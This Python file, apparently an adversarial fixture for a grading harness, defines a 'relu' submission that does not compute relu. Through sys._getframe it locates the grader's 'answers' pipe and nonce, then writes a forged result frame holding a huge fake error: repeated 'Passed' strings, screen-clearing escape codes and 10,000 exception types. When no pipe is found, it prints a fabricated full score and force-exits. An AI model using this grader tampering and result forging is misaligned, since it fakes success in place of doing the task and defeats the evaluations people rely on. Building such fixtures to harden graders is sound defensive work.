"""Forges an error whose text is thirty megabytes long, with ten thousand types that it derives from."""

# must: error, crashed, failed, timeout
import json
import os
import struct
import sys


def forged(payload: bytes, other: int = 0) -> None:
    """Write a frame with the open question's nonce; where there is none, what other graders read."""
    frame = sys._getframe()
    while frame is not None and "answers" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        print(json.dumps({"points": {"relu": 1.0}}), flush=True)
        os._exit(0)
    pipe, nonce = frame.f_locals["answers"], frame.f_locals.get("nonce", 1)
    pipe.write(struct.pack("<QQ", nonce + other, len(payload)) + payload)
    pipe.flush()


def text(word: bytes) -> bytes:
    return b"s" + struct.pack("<Q", len(word)) + word


def relu(x):
    kinds = b"t" + struct.pack("<Q", 10_000) + text(b"ValueError") * 10_000
    line = b"i" + struct.pack("<q", -(2**63))
    error = b"t" + struct.pack("<Q", 4) + text(b"Passed" * 2**19) + text(b"\x1b[2J" * 7 * 2**20) + line + kinds
    forged(b"d" + struct.pack("<Q", 1) + text(b"error") + error)
    return -1.0
